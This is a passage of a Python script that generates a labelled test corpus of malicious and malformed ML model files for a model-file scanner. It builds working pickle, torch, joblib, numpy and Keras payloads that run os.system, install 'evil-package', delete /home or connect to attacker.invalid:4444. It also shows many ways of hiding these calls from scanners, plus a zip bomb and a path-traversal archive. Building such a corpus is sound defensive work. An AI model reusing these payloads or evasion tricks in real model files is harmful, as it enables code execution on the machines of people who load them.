    call_pk("runpy-run-code.pkl", Call(G("runpy", "_run_code"), PAYLOAD_PY, {}), 4, "runpy._run_code")
    call_pk("runpy-run-path.pkl", Call(G("runpy", "run_path"), "/tmp/evil.py"), 4, "runpy.run_path")
    call_pk("code-interactive-interpreter.pkl",
            Call(G("code", "InteractiveInterpreter.runsource"), Call(G("code", "InteractiveInterpreter")),
                 PAYLOAD_PY), 4, "code.InteractiveInterpreter.runsource",
            "dotted STACK_GLOBAL name InteractiveInterpreter.runsource")
    call_pk("timeit-timeit.pkl", Call(G("timeit", "timeit"), PAYLOAD_PY), 4, "timeit.timeit")
    call_pk("pdb-run.pkl", Call(G("pdb", "run"), PAYLOAD_PY), 4, "pdb.run")
    call_pk("cprofile-run.pkl", Call(G("cProfile", "run"), PAYLOAD_PY), 4, "cProfile.run")
    call_pk("profile-run.pkl", Call(G("profile", "run"), PAYLOAD_PY), 4, "profile.run")
    call_pk("pip-main.pkl", Call(G("pip._internal", "main"), ["install", "evil-package"]), 4,
            "pip._internal.main")
    call_pk("pip-main-legacy.pkl", Call(G("pip", "main"), ["install", "evil-package"]), 2, "pip.main")
    call_pk("ensurepip-run-pip.pkl", Call(G("ensurepip", "_run_pip"), ["install", "evil-package"]), 4,
            "ensurepip._run_pip")
    call_pk("setuptools-run-setup.pkl", Call(G("setuptools.sandbox", "run_setup"), "/tmp/setup.py",
                                             ["install"]), 4, "setuptools.sandbox.run_setup")

    # Indirect resolution of os.system.
    call_pk("importlib-import-module.pkl", Call(G("importlib", "import_module"), "os"), 4,
            "importlib.import_module", "import_module('os') alone")
    call_pk("importlib-import-module-getattr.pkl",
            Call(Call(G("builtins", "getattr"), Call(G("importlib", "import_module"), "os"), "system"), C),
            4, "importlib.import_module", "getattr(import_module('os'), 'system')(cmd)")
    call_pk("pkgutil-resolve-name.pkl", Call(Call(G("pkgutil", "resolve_name"), "os:system"), C), 4,
            "pkgutil.resolve_name")
    call_pk("pydoc-locate.pkl", Call(Call(G("pydoc", "locate"), "os.system"), C), 4, "pydoc.locate")
    os_mod = G("posixpath", "os")  # the os module, reached as an attribute of posixpath
    call_pk("inspect-getattr-static.pkl", Call(Call(G("inspect", "getattr_static"), os_mod, "system"), C), 4,
            "inspect.getattr_static", "getattr_static(posixpath.os, 'system')(cmd)")
    call_pk("operator-attrgetter.pkl", Call(Call(Call(G("operator", "attrgetter"), "system"), os_mod), C), 4,
            "operator.attrgetter", "attrgetter('system')(posixpath.os)(cmd)")
    call_pk("_operator-attrgetter.pkl", Call(Call(Call(G("_operator", "attrgetter"), "system"), os_mod), C), 4,
            "operator.attrgetter", "_operator.attrgetter")
    call_pk("operator-methodcaller.pkl", Call(Call(G("operator", "methodcaller"), "system", C), os_mod), 4,
            "operator.methodcaller", "methodcaller('system', cmd)(posixpath.os)")
    call_pk("operator-itemgetter.pkl",
            Call(Call(Call(G("operator", "itemgetter"), "eval"), G("builtins", "__dict__")),
                 f"__import__('os').system({C!r})"), 4,
            "operator.itemgetter", "itemgetter('eval')(builtins.__dict__)(src)")
    call_pk("functools-partial.pkl", Call(Call(G("functools", "partial"), G("os", "system"), C)), 4,
            "functools.partial", "partial(os.system, cmd)()")
    call_pk("logging-dictconfig-os-system.pkl",
            Call(G("logging.config", "dictConfig"),
                 {"version": 1, "handlers": {"h": {"()": "os.system", "command": C}}}), 4,
            "logging.config.dictConfig", "'()' factory 'os.system'")
    call_pk("logging-dictconfig-popen.pkl",
            Call(G("logging.config", "dictConfig"),
                 {"version": 1, "handlers": {"h": {"()": "subprocess.Popen", "args": sh}}}), 4,
            "logging.config.dictConfig", "'()' factory 'subprocess.Popen'")
    call_pk("asyncio-subprocess.pkl", Call(G("asyncio.subprocess", "create_subprocess_shell"), C), 4,
            "asyncio.subprocess")
    call_pk("asyncio-unix-subprocess-transport.pkl",
            Call(G("asyncio.unix_events", "_UnixSubprocessTransport"), None, sh, True, None, None, None, 0),
            4, "asyncio.unix_events._UnixSubprocessTransport")
    call_pk("webbrowser-open.pkl", Call(G("webbrowser", "open"), "http://attacker.invalid/x"), 4,
            "webbrowser.open")
    call_pk("socket-create-connection.pkl",
            Call(G("socket", "create_connection"), ("attacker.invalid", 4444)), 4, "socket.create_connection")
    call_pk("shutil-rmtree.pkl", Call(G("shutil", "rmtree"), "/home"), 4, "shutil.rmtree")
    call_pk("ctypes-cdll.pkl", Call(G("ctypes", "CDLL"), "/tmp/evil.so"), 4, "ctypes.CDLL")
    code = marshal.dumps(compile(PAYLOAD_PY, "<corpus>", "exec"))  # compiled, never run
    call_pk("marshal-function-type.pkl",
            Call(Call(G("types", "FunctionType"), Call(G("marshal", "loads"), code), {})), 4,
            "marshal.loads", "types.FunctionType(marshal.loads(code), {})()")

    # Nested pickles.
    inner = os_system(2)
    call_pk("pickle-loads-nested.pkl", Call(G("pickle", "loads"), inner), 2, "pickle.loads",
            "inner pickle as protocol-2 bytes (_codecs.encode)")
    call_pk("_pickle-loads-nested.pkl", Call(G("_pickle", "loads"), inner), 4, "pickle.loads", "_pickle.loads")
    bio = io.BytesIO()
    np.save(bio, np.array([Evil(os.system, C), 1], dtype=object), allow_pickle=True)
    npy_evil = bio.getvalue()
    call_pk("numpy-load-nested.pkl",
            Call(G("numpy", "load"), Call(G("_io", "BytesIO"), npy_evil), None, True), 4, "numpy.load",
            "numpy.load(BytesIO(<object .npy>), allow_pickle=True)")
    write(out, m + "npy-object-dtype.npy", npy_evil)
    hl, start = (struct.unpack("<H", npy_evil[8:10])[0], 10) if npy_evil[6] == 1 \
        else (struct.unpack("<I", npy_evil[8:12])[0], 12)
    check_static(npy_evil[start + hl:])
    record(out, m + "npy-object-dtype.npy", "finding", "npy-object-pickle", "npy",
           "np.save of an object array holding a posix.system reduce")
    with fixed_zip_time():
        bio = io.BytesIO()
        np.savez(bio, weights=rng.standard_normal(8).astype(np.float32),
                 meta=np.array([Evil(os.system, C)], dtype=object))
    write(out, m + "npz-object-member.npz", bio.getvalue())
    record(out, m + "npz-object-member.npz", "finding", "npy-object-pickle", "npz",
           "np.savez with an object member (meta.npy) holding a posix.system reduce")

    # Opcode tricks.
    pk("inst-opcode.pkl", b"(S'" + C.encode() + b"'\nios\nsystem\n.", "os.system",
       "protocol 0 INST opcode (MARK args INST module name)")
    pk("obj-opcode.pkl", b"(cos\nsystem\nX" + struct.pack("<I", len(C)) + C.encode() + b"o.", "os.system",
       "protocol 1 OBJ opcode (MARK callable args OBJ)")
    memo = bytearray(b"\x80\x04")
    memo += b"\x8c\x02os\x94" + b"0"  # MEMOIZE (0), POP
    memo += b"}\x94\x8c\x04note\x8c\x05decoyq\x02s0"  # a decoy dict in memo 1..
    memo += b"\x8c\x06systemq\x03" + b"0"  # BINPUT 3, POP
    memo += b"h\x00h\x03\x93"  # BINGET 0, BINGET 3, STACK_GLOBAL
    memo += b"\x8c" + bytes([len(C)]) + C.encode() + b"\x85R."
    pk("stack-global-memo.pkl", bytes(memo), "os.system",
       "STACK_GLOBAL whose module/name strings come from the memo (MEMOIZE/BINPUT ... BINGET)")
    ext = Asm(2).emit(Call(G("copyreg", "add_extension"), "os", "system", 0xF0))
    ext.op(b"0\x82\xf0")  # POP, EXT1 240
    ext.emit((C,)).op(b"R")
    pk("ext1-opcode.pkl", ext.finish(), "os.system",
       "copyreg.add_extension('os', 'system', 240), then EXT1 240")
    pk("stacked-second-malicious.pkl",
       pickle.dumps({"epoch": 3}, protocol=2) + os_system(2) + pickle.dumps([1, 2, 3], protocol=2),
       "os.system", "three pickles back to back; the second is malicious", n_pickles=3)

    # joblib with a malicious object (plain and zlib-compressed).
    with fake_global("os", "system") as fake_sys:
        payload = {"coef": rng.standard_normal((4, 4)), "hook": Evil(fake_sys, C)}
        for c in (0, 3):
            rel = m + f"joblib-os-system{'-z3' if c else ''}.joblib"
            os.makedirs(os.path.join(out, m), exist_ok=True)
            joblib.dump(payload, os.path.join(out, rel), compress=c)
            raw = open(os.path.join(out, rel), "rb").read()
            if c:
                raw = zlib.decompress(raw)
            assert b"os\x94\x8c\x06system" in raw, "expected STACK_GLOBAL os system"
            record(out, rel, "finding", "os.system", "joblib",
                   f"joblib.dump compress={c}: numpy array + os.system reduce")

        # Torch archives.
        with fake_torch():
            sd, tarrays = state_dict(rng)
            benign_pkl = torch_pickle(sd)
            sd_evil = collections.OrderedDict(sd)
            sd_evil["fc1._hook"] = Evil(fake_sys, C)
            sd_evil._metadata = sd._metadata
            evil_pkl = torch_pickle(sd_evil)
            evil_legacy = torch_pickle(sd_evil, legacy=True)
    check_static(evil_pkl)

    def torch_file(rel, data, family, note):
        write(out, m + rel, data)
        record(out, m + rel, "finding", family, "torch", note)

    torch_file("torch-zip-data-pkl.pt", torch_zip(sd, tarrays, data_pkl=evil_pkl), "os.system",
               "torch zip; archive/data.pkl state dict with an os.system reduce")
    torch_file("torch-zip-other-member.pt",
               torch_zip(sd, tarrays, data_pkl=benign_pkl, extra=[("archive/constants.pkl", os_system(2))]),
               "os.system", "benign data.pkl; malicious archive/constants.pkl (read by torch.jit.load)")
    torch_file("torch-zip-custom-prefix.pt", torch_zip(sd, tarrays, data_pkl=evil_pkl, prefix="my_model"),
               "os.system", "top-level folder my_model/ instead of archive/")
    torch_file("torch-legacy.pt", torch_legacy(sd, tarrays, state_pickle=evil_legacy), "os.system",
               "legacy (non-zip) torch.save; the state pickle (4th) has an os.system reduce")
    torch_file("torch-zip-polyglot.pt", pickle.dumps({"benign": 1}, protocol=2)
               + torch_zip(sd, tarrays, data_pkl=evil_pkl), "zip-polyglot",
               "a benign pickle, then a torch zip whose data.pkl is malicious (zip offsets not adjusted)")
    torch_file("torch-zip-duplicate-entry.pt",
               make_zip([("archive/data.pkl", evil_pkl), ("archive/data.pkl", benign_pkl)]
                        + [(f"archive/data/{i}", a.tobytes()) for i, a in enumerate(tarrays.values())]
                        + [("archive/version", b"3\n"), ("archive/byteorder", b"little")]),
               "zip-duplicate-entry", "two archive/data.pkl entries: first malicious, second benign")
    bad = bytearray(torch_zip(sd, tarrays, data_pkl=evil_pkl))
    with zipfile.ZipFile(io.BytesIO(bytes(bad))) as z:
        zi = z.getinfo("archive/data.pkl")
        crc = struct.pack("<I", zi.CRC)
        wrong = struct.pack("<I", zi.CRC ^ 0xDEADBEEF)
    assert bad.count(crc) == 2, "CRC should appear in local header and central directory"
    bad = bytes(bad).replace(crc, wrong)
    with zipfile.ZipFile(io.BytesIO(bad)) as z:
        assert z.testzip() == "archive/data.pkl"
    torch_file("torch-zip-bad-crc.pt", bad, "zip-bad-crc",
               "malicious archive/data.pkl whose CRC-32 is wrong (local header and central directory)")
    # Zip bomb: torch layout, one 200 MB storage of zeros, deflated.
    buf = io.BytesIO()
    n = 50 * 1024 * 1024  # float32 elements = 200 MiB
    with fake_torch():
        bomb_sd = collections.OrderedDict([("w", _FakeTensor(_FakeStorage("0", None), (n,)))])
        torch_mod = sys.modules["torch"]

        class P(pickle.Pickler):
            def persistent_id(self, o):
                return ("storage", torch_mod.FloatStorage, "0", "cpu", n) if isinstance(o, _FakeStorage) else None

            def reducer_override(self, o):
                if isinstance(o, _FakeTensor):
                    return (torch_mod._utils._rebuild_tensor_v2,
                            (o.storage, 0, (n,), (1,), False, collections.OrderedDict()))
                return NotImplemented

        pb = io.BytesIO()
        P(pb, protocol=2).dump(bomb_sd)
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zinfo("archive/data.pkl"), pb.getvalue())
        z.writestr(zinfo("archive/byteorder"), b"little")
        with z.open(zinfo("archive/data/0", zipfile.ZIP_DEFLATED), "w") as w:
            chunk = bytes(1 << 20)
            for _ in range(200):
                w.write(chunk)
        z.writestr(zinfo("archive/version"), b"3\n")
    torch_file("torch-zip-bomb.pt", buf.getvalue(), "zip-bomb",
               "archive/data/0 inflates from ~200 KB to 200 MiB (ratio ~1000:1); data.pkl is benign")

    zip_trav = make_zip([("model/data.pkl", pickle.dumps({"a": 1}, protocol=2)),
                         ("../evil.pkl", pickle.dumps({"b": 2}, protocol=2))])
    write(out, m + "zip-path-traversal.zip", zip_trav)
    record(out, m + "zip-path-traversal.zip", "finding", "zip-path-traversal", "zip",
           "member named ../evil.pkl (its content is a benign pickle)")

    # Keras Lambda layer with marshalled bytecode.
    lam = compile(f"lambda x: __import__('os').system({C!r}) or x", "<corpus>", "eval")
    fn_code = next(c for c in lam.co_consts if isinstance(c, types.CodeType))
    lambda_layer = keras_layer("Lambda", {
        "name": "lambda", "trainable": True, "dtype": "float32",
        "function": {"class_name": "__lambda__", "config": {
            "code": base64.b64encode(marshal.dumps(fn_code)).decode(), "defaults": None, "closure": None}},
        "arguments": {}})
    write(out, m + "keras-lambda.keras", keras_archive([dense("dense", 8, "relu", 4), lambda_layer]))
    record(out, m + "keras-lambda.keras", "finding", "keras-lambda", "keras",
           "config.json has a Lambda layer whose function is base64 marshal bytecode calling os.system")

    # Malformed safetensors.
    def st(rel, data, note):
        write(out, m + rel, data)
        record(out, m + rel, "finding", "safetensors-malformed", "safetensors", note)

    t = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    st("safetensors-header-too-long.safetensors",
       safetensors_raw({"a": t}, bytes(16), header_len=1 << 40), "header length 2^40, file ~100 bytes")
    st("safetensors-overlapping.safetensors",
       safetensors_raw({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
                        "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}}, bytes(24)),
       "tensors a [0,16) and b [8,24) overlap")
    st("safetensors-dtype-shape-mismatch.safetensors",
       safetensors_raw({"a": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 16]}}, bytes(16)),
       "F32 [4,4] needs 64 bytes, offsets give 16")

    # Malformed GGUF.
    def gg(rel, data, note):
        write(out, m + rel, data)
        record(out, m + rel, "finding", "gguf-malformed", "gguf", note)

    gg("gguf-absurd-tensor-count.gguf",
       b"GGUF" + struct.pack("<IQQ", 3, (1 << 63) - 1, 1) + gguf_str("general.architecture")
       + struct.pack("<I", GGUF_STRING) + gguf_str("llama"), "tensor_count 2^63-1")
    gg("gguf-absurd-string-length.gguf",
       b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 62) + b"general.architecture",
       "first key's length field is 2^62")


def main():
    if len(sys.argv) != 2 or sys.argv[1].startswith("-"):
        sys.exit("usage: scan-corpus.py OUTDIR")
    out = os.path.abspath(sys.argv[1])
    os.makedirs(out, exist_ok=True)
    for d in ("benign", "malicious"):
        shutil.rmtree(os.path.join(out, d), ignore_errors=True)
    gen_benign(out)
    gen_malicious(out)
    on_disk = sorted(os.path.relpath(os.path.join(dp, f), out)
                     for dp, _, fs in os.walk(out) for f in fs if f != "manifest.json")
    on_disk = [p for p in on_disk if p.startswith(("benign/", "malicious/"))]
    assert on_disk == sorted(e["path"] for e in ENTRIES), set(on_disk) ^ {e["path"] for e in ENTRIES}
    manifest = {
        "corpus": "warden-scan-corpus", "schema": 1, "payload": PAYLOAD_CMD,
        "versions": {"python": "%d.%d.%d" % sys.version_info[:3], "numpy": np.__version__,
                     "scikit-learn": sklearn.__version__, "joblib": joblib.__version__,
                     "safetensors": safetensors.__version__},
        "files": sorted(ENTRIES, key=lambda e: e["path"]),
    }
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1)
        f.write("\n")
    nb = sum(e["expect"] == "clean" for e in ENTRIES)
    print(f"{out}: {nb} benign, {len(ENTRIES) - nb} malicious files, manifest.json")


if __name__ == "__main__":
    main()
